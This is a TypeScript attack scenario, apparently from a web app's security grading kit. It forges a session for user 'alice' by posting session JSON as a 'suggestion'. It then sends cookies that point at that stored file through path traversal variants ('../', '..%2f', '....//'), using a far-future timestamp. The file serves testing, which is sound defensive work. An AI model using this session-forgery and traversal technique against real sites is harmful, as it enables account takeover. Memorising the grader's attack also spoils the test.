import { attack } from "../kit/grader/attack.ts";

export default attack(
  "sending a path as a cookie",
  "A thief who can put a text on the disk can write a session there, in any user's name.",
  async ({ thief, say }) => {
    say("The thief has no account. He chooses a secret, and writes a session for alice.");
    const secret = "5e55107e".repeat(8);
    const times = { createdAt: FAR_AHEAD, lastSeen: FAR_AHEAD };
    const session = { username: "alice", basket: [], ...times, mark: await sha256(secret) };
    say("He sends it as a suggestion, as every visitor may do.");
    const filed = await thief.post("/suggestions", { text: JSON.stringify(session) });
    const [path = ""] = /suggestions\/\d+/.exec(filed.response.body) ?? [];
    await thief.post("/basket", { item: "umbrella" });
    const [name = ""] = thief.cookieHeader().split("=");
    say("The site says where it has stored his suggestion. His cookie contains the path to that file, and his secret.");
    for (const value of WAYS.map((way) => `${way}${path}`)) {
      const cookie = `${name}=${value}.${secret}`;
      const page = await thief.get("/dashboard", { headers: { cookie }, leaveJar: true });
      if (page.response.status === 200) return page.response.body;
    }
    say("No cookie leads out of the folder.");
    return undefined;
  },
);

/** In epoch milliseconds, and after everybody's lifetime: a session that never ends. */
const FAR_AHEAD = 1e15;

/** Paths out of the sessions' folder: plain, encoded, and for code that removes "../" once. */
const WAYS = ["../", "..%2f", "....//"];

async function sha256(text: string): Promise<string> {
  const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text));
  return Array.from(new Uint8Array(digest), (byte) => byte.toString(16).padStart(2, "0")).join("");
}
